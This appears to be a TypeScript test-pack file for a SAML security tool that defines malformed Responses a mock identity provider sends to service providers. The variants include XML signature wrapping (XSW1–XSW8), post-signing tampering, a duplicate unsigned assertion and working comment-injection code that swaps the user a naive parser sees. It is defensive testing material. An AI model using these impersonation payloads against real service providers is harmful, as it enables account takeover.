// The SP test pack: every deliberately faulty Response the mock IdP can send (CONTRACT §5
// `--variant`, plus what the SAML security literature adds). One entry per variant: what is
// wrong, what a safe SP does with it, and the samlscope finding codes inspecting it must give
// (variants.test.ts fails when a variant stops producing them).
import { newMessageId } from '../mocksp/authnRequest';
import { NS } from '../xml/dom';
import type { ResponseFields } from './response';
import { applyWrapping, impersonate, type WrappingShape } from './wrapping';

export type SignMode = 'response' | 'assertion' | 'both' | 'none';
export const SIGN_MODES: readonly SignMode[] = ['response', 'assertion', 'both', 'none'];

export type VariantCategory = 'conditions' | 'protocol' | 'signature' | 'wrapping' | 'parsing';

export interface VariantContext {
  attackerNameId: string;
  /** The evaluation instant the Response is made for. */
  at: Date;
  spEntityId: string;
}

export interface VariantDefinition {
  name: string;
  category: VariantCategory;
  title: string;
  /** What is wrong with the Response, in one or two sentences. */
  description: string;
  /** What a safe SP does with it; `reject-or-other-user`: logging in the user the signature vouches for (not the injected one) is safe too. */
  safeOutcome: 'reject' | 'reject-or-other-user';
  expectation: string;
  /** samlscope finding codes `inspect` gives for it (with the IdP's metadata or certificate trusted and the SP's expectations set). */
  codes: string[];
  /** The spec section or paper that makes it wrong. */
  reference: string;
  /** Signing forced by the variant (null: the user's --sign, with `none` raised to `both` where a signature is the point). */
  sign: SignMode | null;
  /** Needs a signature to be meaningful: `--sign none` becomes `both`. */
  needsSignature?: boolean;
  /** Signed with a key nobody trusts instead of the IdP's. */
  untrustedKey?: boolean;
  /** Can be combined with --encrypt (the variant does not restructure the assertion after signing). */
  encryptable: boolean;
  adjust?(f: ResponseFields, ctx: VariantContext): void;
  /** On the parsed, still unsigned Response. */
  beforeSign?(doc: Document, ctx: VariantContext): void;
  /** On the signed (and encrypted) Response. */
  afterSign?(doc: Document, ctx: VariantContext): void;
}

const HOUR = 3_600_000;

function firstByName(doc: Document, local: string): Element {
  const el = doc.getElementsByTagNameNS(NS.assertion, local).item(0);
  if (!el) throw new Error(`Bug: no saml:${local} in the Response`);
  return el;
}

/** The comment-injection shape of Duo Labs' 2018 advisory (CVE-2017-11427 and siblings). */
function splitWithComment(el: Element): void {
  const value = el.textContent ?? '';
  while (el.firstChild) el.removeChild(el.firstChild);
  const doc = el.ownerDocument!;
  el.appendChild(doc.createTextNode(value));
  el.appendChild(doc.createComment(''));
  el.appendChild(doc.createTextNode('.evil.example'));
}

function wrapping(shape: WrappingShape, n: string, title: string, description: string, sign: SignMode, codes: string[]): VariantDefinition {
  return {
    name: n,
    category: 'wrapping',
    title,
    description,
    safeOutcome: 'reject-or-other-user',
    expectation: 'A safe SP rejects it, or logs in the original user, never the attacker\'s NameID: it must consume only the element its verified signature covers.',
    codes,
    reference: 'Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012, §4 (XSW); SAML core §5.4.2; XML-DSig §8.1.3',
    sign,
    encryptable: false,
    afterSign: (doc, ctx) => applyWrapping(doc, shape, { attackerNameId: ctx.attackerNameId }),
  };
}

export const VARIANTS: readonly VariantDefinition[] = [
  {
    name: 'expired',
    category: 'conditions',
    title: 'Expired assertion',
    description: 'Issued two hours before the evaluation instant: Conditions and SubjectConfirmationData NotOnOrAfter are in the past.',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it (NotOnOrAfter passed, beyond any clock skew).',
    codes: ['expired'],
    reference: 'SAML core §2.5.1.2 and §2.4.1.2; SAML profiles §4.1.4.3',
    sign: null,
    encryptable: true,
    adjust: (f, ctx) => {
      const shift = (d: Date) => new Date(d.getTime() - 2 * HOUR);
      f.issueInstant = shift(f.issueInstant);
      f.notBefore = shift(f.notBefore);
      f.notOnOrAfter = shift(f.notOnOrAfter);
      f.sessionNotOnOrAfter = shift(f.sessionNotOnOrAfter);
      void ctx;
    },
  },
  {
    name: 'not-yet-valid',
    category: 'conditions',
    title: 'Not yet valid',
    description: 'Issued one hour after the evaluation instant: Conditions NotBefore is in the future.',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it (NotBefore not reached, beyond any clock skew).',
    codes: ['not-yet-valid'],
    reference: 'SAML core §2.5.1.2',
    sign: null,
    encryptable: true,
    adjust: (f) => {
      const shift = (d: Date) => new Date(d.getTime() + HOUR);
      f.issueInstant = shift(f.issueInstant);
      f.notBefore = shift(f.notBefore);
      f.notOnOrAfter = shift(f.notOnOrAfter);
      f.sessionNotOnOrAfter = shift(f.sessionNotOnOrAfter);
    },
  },
  {
    name: 'wrong-audience',
    category: 'conditions',
    title: 'Audience of another SP',
    description: 'AudienceRestriction names another service provider, as an assertion stolen from (or meant for) another SP would.',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: it is not in the audience (assertion forwarding between SPs).',
    codes: ['audience-mismatch'],
    reference: 'SAML core §2.5.1.4; SAML profiles §4.1.4.2',
    sign: null,
    encryptable: true,
    adjust: (f) => {
      f.audience = 'https://other-sp.example/saml/metadata';
    },
  },
  {
    name: 'wrong-destination',
    category: 'protocol',
    title: 'Destination of another endpoint',
    description: 'The Response Destination is not this ACS URL (Recipient still is).',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: a signed Destination that differs from where it was received (SAML bindings §3.5.5.2).',
    codes: ['destination-mismatch'],
    reference: 'SAML bindings §3.5.5.2; SAML core §3.2.2',
    sign: null,
    encryptable: true,
    adjust: (f) => {
      f.destination = 'https://other-sp.example/saml/acs';
    },
  },
  {
    name: 'wrong-recipient',
    category: 'protocol',
    title: 'Recipient of another endpoint',
    description: 'SubjectConfirmationData Recipient is not this ACS URL (Destination still is).',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: the bearer confirmation names another recipient.',
    codes: ['recipient-mismatch'],
    reference: 'SAML profiles §4.1.4.2 (Recipient MUST be the ACS location)',
    sign: null,
    encryptable: true,
    adjust: (f) => {
      f.recipient = 'https://other-sp.example/saml/acs';
    },
  },
  {
    name: 'wrong-in-response-to',
    category: 'protocol',
    title: 'Answer to another request',
    description: 'InResponseTo (Response and SubjectConfirmationData) names a request this SP never sent.',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: it answers no outstanding request (replay or cross-session injection).',
    codes: ['in-response-to-mismatch'],
    reference: 'SAML profiles §4.1.4.3; SAML core §3.2.2',
    sign: null,
    encryptable: true,
    adjust: (f) => {
      f.inResponseTo = newMessageId();
    },
  },
  {
    name: 'unsolicited',
    category: 'protocol',
    title: 'Unsolicited (IdP-initiated) answer to an SP-initiated login',
    description: 'No InResponseTo at all, although the SP sent a request: an IdP-initiated Response.',
    safeOutcome: 'reject',
    expectation: 'An SP that does not allow IdP-initiated login rejects it (authentik source: "allow IdP-initiated logins" is off by default, a security risk).',
    codes: ['unsolicited-response'],
    reference: 'SAML profiles §4.1.5 (unsolicited responses); authentik SAML source documentation',
    sign: null,
    encryptable: true,
    adjust: (f) => {
      f.inResponseTo = null;
    },
  },
  {
    name: 'wrong-issuer',
    category: 'protocol',
    title: 'Issuer of another IdP',
    description: 'The Response and Assertion Issuer is another entity, signed with the IdP\'s key.',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: the Issuer is not the IdP it trusts ("response Issuer does not match the IDP metadata").',
    codes: ['issuer-mismatch', 'signature-key-wrong-entity'],
    reference: 'SAML profiles §4.1.4.2; SAML core §2.2.5',
    sign: null,
    encryptable: true,
    adjust: (f) => {
      f.issuer = 'https://wrong-issuer.example/idp';
    },
  },
  {
    name: 'issuer-is-sp-entity-id',
    category: 'protocol',
    title: 'Issuer set to the SP\'s entity ID',
    description: 'The Issuer is the SP\'s own entity ID: the authentik misconfiguration Scaleway answers with "response Issuer does not match the IDP metadata".',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: the Issuer must be the IdP\'s entity ID.',
    codes: ['issuer-is-sp-entity-id', 'issuer-mismatch', 'signature-key-wrong-entity'],
    reference: 'SAML profiles §4.1.4.2; Scaleway + authentik setup notes (issuer)',
    sign: null,
    encryptable: true,
    adjust: (f, ctx) => {
      f.issuer = ctx.spEntityId;
    },
  },
  {
    name: 'status-error',
    category: 'protocol',
    title: 'Error status with an assertion',
    description: 'Status Responder/AuthnFailed, yet an assertion is attached.',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: only a Success status lets an assertion be consumed.',
    codes: ['status-error'],
    reference: 'SAML core §3.2.2.2; SAML profiles §4.1.4.2',
    sign: null,
    encryptable: true,
    adjust: (f) => {
      f.status = { code: 'urn:oasis:names:tc:SAML:2.0:status:Responder', subcode: 'urn:oasis:names:tc:SAML:2.0:status:AuthnFailed', message: 'samlscope test pack: authentication failed' };
    },
  },
  {
    name: 'unsigned',
    category: 'signature',
    title: 'No signature at all',
    description: 'Neither the Response nor the assertion is signed (signature exclusion).',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: an unsigned assertion delivered by the browser is forgeable by anyone.',
    codes: ['signature-missing'],
    reference: 'SAML profiles §4.1.4.5 (HTTP-POST: the assertion MUST be signed); Somorovsky et al. 2012 §5.1',
    sign: 'none',
    encryptable: true,
  },
  {
    name: 'tampered',
    category: 'signature',
    title: 'Changed after signing',
    description: 'Signed, then the NameID was changed to the attacker\'s: the digests no longer match.',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: the signature does not verify.',
    codes: ['digest-mismatch'],
    reference: 'XML-DSig §3.2.1 (reference validation)',
    sign: null,
    needsSignature: true,
    encryptable: false,
    afterSign: (doc, ctx) => impersonate(firstByName(doc, 'Assertion'), { attackerNameId: ctx.attackerNameId }),
  },
  {
    name: 'untrusted-key',
    category: 'signature',
    title: 'Signed by an unknown key',
    description: 'Correctly signed, but with a freshly generated key whose certificate is in KeyInfo: a key the SP never trusted.',
    safeOutcome: 'reject',
    expectation: 'A safe SP rejects it: it must verify with the IdP\'s key from metadata, never with the certificate the message brings.',
    codes: ['signature-untrusted-key'],
    reference: 'SAML metadata §2.4.1.1 (KeyDescriptor); CVE-2017-11428 family (KeyInfo trusted)',
    sign: null,
    needsSignature: true,
    untrustedKey: true,
    encryptable: true,
  },
  wrapping('xsw1', 'xsw1', 'XSW1: evil Response, signed original inside the Signature', 'The root Response (new ID) carries the attacker\'s assertion; the unsigned copy of the signed original is inside its Signature.', 'response', ['signature-wrapping', 'duplicate-id']),
  wrapping('xsw2', 'xsw2', 'XSW2: evil Response, signed original before the Signature', 'As XSW1, the copy of the signed original placed before the Signature (a detached signature).', 'response', ['signature-wrapping', 'duplicate-id']),
  wrapping('xsw3', 'xsw3', 'XSW3: evil assertion before the signed one', 'An unsigned attacker\'s assertion (new ID) precedes the signed assertion.', 'assertion', ['signature-wrapping', 'multiple-assertions']),
  wrapping('xsw4', 'xsw4', 'XSW4: signed assertion inside the evil one', 'The attacker\'s assertion takes the original\'s place and contains the signed original.', 'assertion', ['signature-wrapping']),
  wrapping('xsw5', 'xsw5', 'XSW5: evil assertion keeps the Signature, original copy at the end', 'The signed assertion is changed (new ID) and keeps its Signature; the unsigned copy of the original it references is appended to the Response.', 'assertion', ['signature-wrapping', 'multiple-assertions']),
  wrapping('xsw6', 'xsw6', 'XSW6: original copy inside the evil assertion\'s Signature', 'As XSW5, with the copy of the original inside the Signature.', 'assertion', ['signature-wrapping']),
  wrapping('xsw7', 'xsw7', 'XSW7: evil assertion in Extensions', 'An unsigned attacker\'s copy (same ID) sits in samlp:Extensions before the signed assertion.', 'assertion', ['duplicate-id']),
  wrapping('xsw8', 'xsw8', 'XSW8: original copy in a ds:Object of the evil assertion', 'As XSW5, with the copy of the original in a ds:Object of the Signature.', 'assertion', ['signature-wrapping']),
  {
    ...wrapping('signature-relocated', 'signature-relocated', 'Signature stripped, signed original kept elsewhere', 'The consumed assertion has no Signature and the attacker\'s NameID; the signed original (its own ID, with its Signature) is moved into samlp:Extensions.', 'assertion', ['signature-wrapping']),
    reference: 'Somorovsky et al. 2012 §5.1 (signature exclusion) combined with XSW7\'s Extensions placement',
  },
  {
    name: 'comment-injection',
    category: 'parsing',
    title: 'Comment inside the NameID',
    description: 'The signed NameID is "<user><!---->.evil.example": the signature covers "<user>.evil.example" (C14N without comments), a parser that reads the first text node sees "<user>".',
    safeOutcome: 'reject-or-other-user',
    expectation: 'A safe SP logs in "<user>.evil.example" (or rejects it), never "<user>".',
    codes: ['nameid-comment'],
    reference: 'Duo Labs 2018, "Duo Finds SAML Vulnerabilities Affecting Multiple Implementations" (CVE-2017-11427, CVE-2017-11428, CVE-2017-11429, CVE-2018-0489); XML-DSig §4.3.3.3',
    sign: null,
    needsSignature: true,
    encryptable: true,
    beforeSign: (doc) => splitWithComment(firstByName(doc, 'NameID')),
  },
  {
    name: 'attribute-comment-injection',
    category: 'parsing',
    title: 'Comment inside an attribute value',
    description: 'The first AttributeValue is split by a comment, as comment-injection does to the NameID (group or e-mail attributes drive authorization in many SPs). A Response without attributes gets a "groups" attribute with the value "users" first.',
    safeOutcome: 'reject-or-other-user',
    expectation: 'A safe SP reads the whole value (with the suffix) or rejects it.',
    codes: ['nameid-comment'],
    reference: 'Duo Labs 2018 (same root cause: text of an element read from its first text node)',
    sign: null,
    needsSignature: true,
    encryptable: true,
    adjust: (f) => {
      if (!f.attributes.some((a) => a.values.length)) f.attributes = [...f.attributes, { name: 'groups', values: ['users'] }];
    },
    beforeSign: (doc) => {
      const v = doc.getElementsByTagNameNS(NS.assertion, 'AttributeValue').item(0);
      if (!v) throw new Error('Bug: attribute-comment-injection needs an attribute');
      splitWithComment(v);
    },
  },
  {
    name: 'duplicate-assertion',
    category: 'wrapping',
    title: 'A second, unsigned assertion after the signed one',
    description: 'The signed assertion is followed by an unsigned one (own ID) with the attacker\'s NameID.',
    safeOutcome: 'reject-or-other-user',
    expectation: 'A safe SP rejects it (or consumes the signed assertion only); it never reads the unsigned one.',
    codes: ['multiple-assertions'],
    reference: 'SAML profiles §4.1.4.2 (one assertion per Response, in practice); Somorovsky et al. 2012 §5',
    sign: 'assertion',
    encryptable: false,
    afterSign: (doc, ctx) => {
      const a = firstByName(doc, 'Assertion');
      const copy = a.cloneNode(true) as Element;
      for (let c = copy.firstChild; c; c = c.nextSibling) {
        if (c.nodeType === 1 && (c as Element).namespaceURI === NS.dsig && (c as Element).localName === 'Signature') {
          copy.removeChild(c);
          break;
        }
      }
      copy.setAttribute('ID', newMessageId());
      impersonate(copy, { attackerNameId: ctx.attackerNameId });
      a.parentNode!.insertBefore(copy, a.nextSibling);
    },
  },
];

export const VARIANT_NAMES = VARIANTS.map((v) => v.name);

export function variantNamed(name: string): VariantDefinition | null {
  return VARIANTS.find((v) => v.name === name) ?? null;
}

/** The signing a variant ends up with, given what the user chose. */
export function effectiveSignMode(variant: VariantDefinition | null, chosen: SignMode): SignMode {
  if (!variant) return chosen;
  if (variant.sign) return variant.sign;
  if (variant.needsSignature && chosen === 'none') return 'both';
  return chosen;
}
